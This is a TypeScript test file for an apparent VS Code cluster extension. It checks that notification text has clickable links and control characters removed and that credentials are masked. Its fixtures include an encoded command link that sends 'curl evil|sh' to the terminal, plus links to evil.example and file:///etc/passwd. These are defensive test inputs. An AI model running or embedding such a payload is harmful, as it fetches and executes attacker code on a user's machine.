/** Text from the cluster, the API or a build never becomes a clickable link in a notification or modal. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { plain } from '../../common/plainText';
import { ClusterError, explainError } from '../../client/src/cluster/errors';

/** The link syntax VS Code renders in notifications (vs/base/common/linkedText.ts, LINK_REGEX). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (s: string) => [...s.matchAll(VSCODE_LINK)].map((m) => m[2]);

const HOSTILE = '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';

test('plain(): no link is left, and the text still reads the same', () => {
  const s = plain(`failed to pull ${HOSTILE}, see [docs](https://evil.example/x "t") and [f](file:///etc/passwd)`);
  assert.deepEqual(links(s), []);
  assert.match(s, /\[Retry\] \(command:workbench/);
  assert.equal(plain('quay.io/example/layered@sha256:abc [x] (y)'), 'quay.io/example/layered@sha256:abc [x] (y)');
  assert.equal(plain('a\u202eb\u0007c\nd'), 'abc\nd', 'bidi and control characters go, newlines stay');
});

test('an admission webhook denial (403) or a degraded message in a ClusterError carries no link', () => {
  const denial = Object.assign(new Error('HTTP-Code: 403'), {
    code: 403,
    body: JSON.stringify({ message: `admission webhook "policy.example.com" denied the request: ${HOSTILE}` }),
  });
  const e = explainError(denial, { server: 'https://api.example:6443', context: 'prod', action: 'create machineconfigs' });
  assert.match(e.message, /denied the request/);
  assert.deepEqual(links(e.message), []);
  assert.deepEqual(links(new ClusterError(`Pool worker is degraded: ${HOSTILE}`, 'other').message), []);
  assert.deepEqual(links(explainError(new Error(HOSTILE), { server: 's', context: 'c', action: 'a' }).message), []);
});

test('credentials in any cluster message are masked as tokens are', () => {
  const e = new ClusterError(
    'Could not list on https://admin:hunter2@api.example:6443: Bearer abc.def sha256~s3cr3t eyJhbGciOi.eyJzdWIiOi.c2ln ' +
      'token=t0k password: "p4ss"',
    'other',
  );
  assert.doesNotMatch(e.message, /hunter2|abc\.def|s3cr3t|eyJzdWIiOi|t0k|p4ss/);
  assert.match(e.message, /https:\/\/admin:<hidden>@api\.example:6443/);
});
